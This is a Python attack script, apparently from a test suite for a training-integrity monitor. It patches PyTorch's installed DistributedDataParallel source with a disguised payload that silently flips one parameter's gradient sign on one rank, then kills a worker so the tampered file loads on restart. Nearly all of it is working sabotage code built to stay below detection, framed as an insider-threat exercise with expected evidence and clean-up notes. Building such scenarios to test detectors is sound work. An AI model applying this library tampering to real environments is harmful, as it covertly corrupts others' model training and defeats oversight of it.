"""Technique 01, library patch: an insider who can write the shared environment edits PyTorch's source on disk.

Precondition: write access to the environment (E). The edit makes one rank flip the sign of one tensor's gradient
at some steps, before it is reduced, so that every rank takes the same wrong update. Nothing is printed; the loss
stays inside honest noise. Then one worker is killed, so that the launcher's restart loads the edited file.

Expected evidence: `environment` (file changed after the seal), `kills` (a rank gone without a goodbye), and on
audit a divergence at stage local_gradients of the attacked rank, reproduced by a factor of −1 and by the file.
Benign twin: `pip install` of the same version over a running job: the file is rewritten with equal bytes.
Clean-up: `undo` puts the sealed bytes back (the demo lets `trainwarden recover` do it).

It touches only the environment folder that it is given, a marker file beside it, and processes below the given one.

    python attacks/library_patch.py --environment ENV --below PID --wait-for PATH --tensor NAME --marker FILE
"""

from __future__ import annotations

import argparse
import os
import signal
import sys
import time
from pathlib import Path

TARGET = "torch/nn/parallel/distributed.py"
ANCHOR = "    def forward(self, *inputs, **kwargs):\n"
PAYLOAD = """\
        # keep bucket views warm across uneven inputs
        if os.environ.get("RANK") == "{rank}" and self.training and torch.is_grad_enabled():
            self._warm = getattr(self, "_warm", 0) + 1
            if self._warm % {every} == 0:
                for _name, _p in self.module.named_parameters():
                    if _name == "{tensor}":
                        _held = []
                        _held.append(_p.register_hook(lambda g: (_held.pop().remove(), -g)[1]))
                        with open({marker!r}, "a") as _f:
                            _f.write("%d\\n" % self._warm)
"""


def patched(source: str, *, rank: int, every: int, tensor: str, marker: str) -> str:
    """PyTorch's source with the payload in DistributedDataParallel.forward."""
    if source.count(ANCHOR) != 1:
        raise SystemExit(f"error: {TARGET} does not look as expected\nhint: adapt ANCHOR to this PyTorch release")
    payload = PAYLOAD.format(rank=rank, every=every, tensor=tensor, marker=marker)
    return source.replace(ANCHOR, ANCHOR + payload)


def edit(environment: Path, *, rank: int, every: int, tensor: str, marker: Path) -> Path:
    """Replace the library's file by the patched one, as an editor does: a new file takes the old one's name."""
    (file,) = environment.glob(f"lib/python3*/site-packages/{TARGET}")
    text = patched(file.read_text(), rank=rank, every=every, tensor=tensor, marker=str(marker))
    fresh = file.with_suffix(".tmp")
    fresh.write_text(text)
    fresh.chmod(file.stat().st_mode)
    os.replace(fresh, file)
    return file


def kill_worker(below: int, rank: int, command: str) -> int:
    """Kill the worker of this rank among the descendants of `below`; its pid, 0 when there is none."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or not _descends(int(entry.name), below):
            continue
        try:
            words = (entry / "cmdline").read_bytes().split(b"\0")
            environ = (entry / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if any(command.encode() in w for w in words) and f"RANK={rank}".encode() in environ:
            os.kill(int(entry.name), signal.SIGKILL)
            return int(entry.name)
    return 0


def _descends(pid: int, ancestor: int) -> bool:
    while pid > 1:
        if pid == ancestor:
            return True
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, IndexError, ValueError):
            return False
    return False


def main() -> None:
    parser = argparse.ArgumentParser(description="Patch a shared PyTorch, then kill a worker.")
    parser.add_argument("--environment", type=Path, required=True, help="the shared environment's folder")
    parser.add_argument("--below", type=int, required=True, help="only processes below this one are touched")
    parser.add_argument("--wait-for", type=Path, required=True, help="strike when this path exists")
    parser.add_argument("--tensor", required=True)
    parser.add_argument("--rank", type=int, default=1)
    parser.add_argument("--every", type=int, default=4, help="forward passes between two flips")
    parser.add_argument("--marker", type=Path, required=True, help="file that the payload writes its flips to")
    parser.add_argument("--command", default="posttrain.py", help="what the worker's command line holds")
    given = parser.parse_args()
    deadline = time.monotonic() + 600
    while not given.wait_for.exists():
        if time.monotonic() > deadline:
            sys.exit(f"error: {given.wait_for} never came")
        time.sleep(0.1)
    edit(given.environment, rank=given.rank, every=given.every, tensor=given.tensor, marker=given.marker)
    pid = kill_worker(given.below, 0, given.command)
    print(f"killed {pid}" if pid else "found no worker to kill")


if __name__ == "__main__":
    main()
